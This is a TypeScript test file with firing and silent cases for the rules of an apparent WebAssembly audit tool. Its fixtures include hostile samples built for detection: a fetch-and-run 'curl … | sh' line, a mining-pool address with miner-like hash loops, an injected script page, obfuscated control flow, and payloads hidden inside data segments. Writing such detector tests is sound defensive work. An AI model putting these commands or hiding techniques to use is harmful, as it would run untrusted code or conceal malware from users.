import { gzipSync } from 'node:zlib';
import { compile, component, customSection, withCustom } from '../audited.ts';
import { callsEnv, FD_WRITE, fires, PATH_OPEN, type RuleCase, silent, withBytes, withData } from './case.ts';

const HEADER = Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0);
const POOL = 'stratum+tcp://pool.acme-corp.dev:3333';
const TWO_ROOTS = FD_WRITE.replace(
  /\)$/,
  '(func (export "again") i32.const 0 i32.const 0 i32.const 0 i32.const 0 call $f drop))',
);

/** A function of `body`, many times over. */
function repeated(body: string, times: number): string {
  return `(module (memory (export "memory") 1 2) (func (export "run") (param i32) (result i32) (local i32)
    ${body.repeat(times)} local.get 1))`;
}

const FLATTENED = repeated(
  '(block (block (loop local.get 0 br_table 0 1 2))) local.get 0 i32.const 7 i32.add local.set 1 ',
  900,
);
const DENSE = 'local.get 0 i32.const 13 i32.rotl local.get 0 i32.xor local.set 1 ';
const HASHES = '\\98\\2f\\8a\\42\\91\\44\\37\\71 \\08\\c9\\bc\\f3\\67\\e6\\09\\6a';
const MINER = repeated(DENSE, 500).replace('(func', `(data (i32.const 64) "${HASHES}") (func`);
const ONLY_DENSE = repeated(DENSE, 500);

/** A ZIP archive without entries, whose end record is also the end of the file. */
const EMPTY_ZIP = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
/** The producers section with one language. */
function producers(language: string): Uint8Array {
  const text = (value: string) => [value.length, ...Buffer.from(value)];
  return customSection('producers', Uint8Array.from([1, ...text('language'), 1, ...text(language), 0]));
}

/** An xz stream's header and its first block's, an empty stream, and the start of a 7z archive, all with checksums. */
const XZ_HEADER = Buffer.from('fd377a585a000004e6d6b446', 'hex');
const XZ = Buffer.concat([XZ_HEADER, Buffer.from('0200210116000000742fe5a3e0009f000f5d0038184b9975', 'hex')]);
const XZ_EMPTY = Buffer.concat([XZ_HEADER, Buffer.from('000000001cdf44211fb6f37d010000000004595a', 'hex')]);
const SEVEN_ZIP = Buffer.from(`377abcaf271c00048d9bd50f${'00'.repeat(20)}`, 'hex');

/** A gzip header with what no deflate data begins with. */
const FALSE_GZIP = Buffer.from(`1f8b0800000000000003${'ff'.repeat(10)}`, 'hex');

export const SUSPICION_CASES: readonly RuleCase[] = [
  fires('ASY10', 'a file that is something else', () => Buffer.from('#!/bin/sh\necho hello\n')),
  fires('ASY10', 'a section that ends too early', () => Buffer.concat([HEADER, Uint8Array.of(1, 20, 0)])),
  silent('ASY10', 'the smallest module', () => HEADER),
  fires('ASY11', 'a function that leaves the wrong type', () =>
    Buffer.concat([HEADER, Uint8Array.of(1, 5, 1, 0x60, 0, 1, 0x7f, 3, 2, 1, 0, 10, 6, 1, 4, 0, 0x42, 0, 0x0b)]),
  ),
  silent('ASY11', 'one that leaves the right type', '(module (func (result i32) i32.const 0))'),
  fires('ASY30', 'a function with too many parameters', () => {
    const params = Buffer.alloc(1001, 0x7f);
    const type = Buffer.concat([Uint8Array.of(1, 0x60, 0xe9, 0x07), params, Uint8Array.of(0)]);
    return Buffer.concat([HEADER, Uint8Array.of(1, 0x80 | (type.length & 0x7f), type.length >> 7), type]);
  }),
  silent('ASY30', 'a function with a few', '(module (func (param i32 i32 i32)))'),
  fires('ASY40', 'a million locals in eight bytes', () =>
    Buffer.concat([
      HEADER,
      Uint8Array.of(1, 4, 1, 0x60, 0, 0, 3, 2, 1, 0, 10, 8, 1, 6, 1, 0xc0, 0x84, 0x3d, 0x7f, 0x0b),
    ]),
  ),
  silent('ASY40', 'a few locals', '(module (func (local i32 i32)))'),

  fires('ASY50', 'a file that opens as an archive', () => withCustom('(module)', customSection('zip', EMPTY_ZIP)), {
    says: 'ZIP',
  }),
  fires('ASY50', 'a web page in a custom section', () =>
    withCustom('(module)', customSection('x', '<!doctype html><script>alert(1)</script>')),
  ),
  silent('ASY50', 'the description of a world that bindings leave behind', () =>
    withCustom('(module)', customSection('component-type:run', component(['wasi:io/poll@0.2.0']))),
  ),
  silent('ASY50', 'an archive record that is not at the end', () =>
    withCustom('(module)', customSection('zip', Buffer.concat([EMPTY_ZIP, Buffer.from('more')]))),
  ),
  fires('ASY91', 'a component in a component', () => component([], { inside: [component([])] }), {
    policy: 'rules: { ASY91: note }\n',
  }),
  silent('ASY91', 'a component alone', () => component([]), { policy: 'rules: { ASY91: note }\n' }),

  fires('ASY260', 'growth in a loop', '(module (memory 1 2) (func (loop (drop (memory.grow (i32.const 1))) br 0)))'),
  silent('ASY260', 'growth once', '(module (memory 1 2) (func (drop (memory.grow (i32.const 1)))))'),
  fires('ASY270', 'a segment behind the end of memory', '(module (memory 1) (data (i32.const 65535) "ab"))'),
  silent('ASY270', 'a segment at its end', '(module (memory 1) (data (i32.const 65534) "ab"))'),
  fires(
    'ASY271',
    'a segment over another',
    '(module (memory 1) (data (i32.const 8) "abcd") (data (i32.const 10) "x"))',
  ),
  silent(
    'ASY271',
    'segments side by side',
    '(module (memory 1) (data (i32.const 8) "abcd") (data (i32.const 12) "x"))',
  ),
  fires('ASY280', 'a loop, under a policy that asks', '(module (func (loop br 0)))', {
    policy: 'rules: { ASY280: note }\n',
  }),
  silent('ASY280', 'straight code', '(module (func nop))', { policy: 'rules: { ASY280: note }\n' }),
  silent('ASY280', 'a loop, under a preset', '(module (func (loop br 0)))'),
  fires(
    'ASY295',
    'a file that is mostly notes',
    () => withCustom('(module)', customSection('notes', 'x'.repeat(500))),
    {
      policy: 'limits: { customSectionShare: 0.5 }\n',
    },
  ),
  silent('ASY295', 'a file without any', '(module)', { policy: 'limits: { customSectionShare: 0.5 }\n' }),

  fires(
    'ASY300',
    'a float, where nodes have to agree',
    '(module (func (export "f") (param f32) (result f32) local.get 0 local.get 0 f32.div))',
    {
      policy: 'assay:consensus@1',
    },
  ),
  silent('ASY300', 'integers', '(module (func (export "f") (param i32) (result i32) local.get 0))', {
    policy: 'assay:consensus@1',
  }),
  fires('ASY301', 'atomics', '(module (memory 1 1 shared) (func (drop (i32.atomic.load (i32.const 0)))))'),
  silent('ASY301', 'ordinary loads', '(module (memory 1 1) (func (drop (i32.load (i32.const 0)))))'),

  fires('ASY322', 'a mining pool that the last version did not name', withData(POOL), { baseline: withData('hello') }),
  silent('ASY322', 'one that it named', withData(POOL), { baseline: withData(POOL) }),
  silent('ASY322', 'one in the first version', withData(POOL)),
  fires('ASY350', 'Rust that exports the runtime of AssemblyScript', () =>
    withCustom('(module (func (export "__new")))', producers('Rust')),
  ),
  silent('ASY350', 'Rust', () => withCustom('(module (func (export "greet")))', producers('Rust'))),

  fires('ASY382', 'a second export that writes', TWO_ROOTS, { baseline: FD_WRITE }),
  silent('ASY382', 'the same exports', TWO_ROOTS, { baseline: TWO_ROOTS }),
  fires('ASY383', 'more memory than before', '(module (memory 2 2))', { baseline: '(module (memory 1 2))' }),
  silent('ASY383', 'less memory than before', '(module (memory 1 2))', { baseline: '(module (memory 2 2))' }),
  fires('ASY384', 'a new name at the gate', '(module)', { gate: true }),
  silent('ASY384', 'a new name in a local check', '(module)'),
  silent('ASY384', 'a known name at the gate', '(module)', { gate: true, baseline: '(module)' }),

  fires(
    'ASY390',
    'C code without stack protection',
    () => withCustom(`(module ${'(func) '.repeat(20)})`, producers('C11')),
    { policy: 'rules: { ASY390: note }\n' },
  ),
  silent(
    'ASY390',
    'C code with it',
    () => withCustom(`(module (func (export "__stack_chk_fail")) ${'(func) '.repeat(20)})`, producers('C11')),
    { policy: 'rules: { ASY390: note }\n' },
  ),
  fires('ASY400', 'strcpy', callsEnv('strcpy')),
  silent('ASY400', 'memcpy', callsEnv('memcpy')),

  fires('ASY410', 'hash loops with the tables of two hashes', MINER),
  fires('ASY410', 'words of a mining protocol', withData('{"method":"mining.subscribe"}')),
  silent('ASY410', 'hash loops alone', ONLY_DENSE),
  fires('ASY412', 'hash loops and a pool', MINER.replace('(data', `(data (i32.const 1024) "${POOL}") (data`)),
  silent('ASY412', 'hash loops without one', MINER),
  fires('ASY420', 'control flow made of branch tables', FLATTENED),
  silent('ASY420', 'hash loops', ONLY_DENSE),

  fires('ASY430', 'a module in data', async () => withBytes(await compile('(module (func (export "hidden")))')), {
    says: 'WebAssembly module',
  }),
  fires('ASY430', 'a compressed stream in data', () => withBytes(gzipSync('hello '.repeat(50)))),
  fires('ASY430', 'a compressed stream behind more headers of streams than are tried', () =>
    withBytes(Buffer.concat([...Array.from({ length: 200 }, () => FALSE_GZIP), gzipSync('hello '.repeat(50))])),
  ),
  silent('ASY430', 'a header of a stream that is none', () => withBytes(FALSE_GZIP)),
  fires('ASY430', 'an xz stream in data', () => withBytes(XZ), { says: 'xz stream' }),
  silent('ASY430', 'an empty xz stream, as its library holds one', () => withBytes(XZ_EMPTY)),
  silent('ASY430', 'an empty gzip stream', () => withBytes(gzipSync(''))),
  silent('ASY430', 'a template of comments for a script', withData('#!/bin/sh\n#\n# Put your hook here.\n')),
  silent(
    'ASY430',
    'a script as an example in a document',
    withData('For instance:\n\n  #!/usr/bin/env node\n  run();\n'),
  ),
  silent('ASY430', 'names of archive formats', withData('ustar, Rar!, 1AY&SY, UEsDB and AGFzbQ begin archives')),
  fires('ASY430', 'a 7z archive in data', () => withBytes(SEVEN_ZIP), { says: '7z archive' }),
  silent('ASY430', 'the signatures of both, as 7-Zip itself holds them', () =>
    withBytes(Buffer.concat([XZ.subarray(0, 6), Buffer.alloc(40), SEVEN_ZIP.subarray(0, 6), Buffer.alloc(40)])),
  ),
  fires('ASY430', 'a shell script in data', withData('#!/bin/sh\ncurl -s example.org | sh\n')),
  silent('ASY430', 'the letters of a magic number', withData('\\MZ and PK and \u007fEL')),
  silent('ASY430', 'text', PATH_OPEN),
];
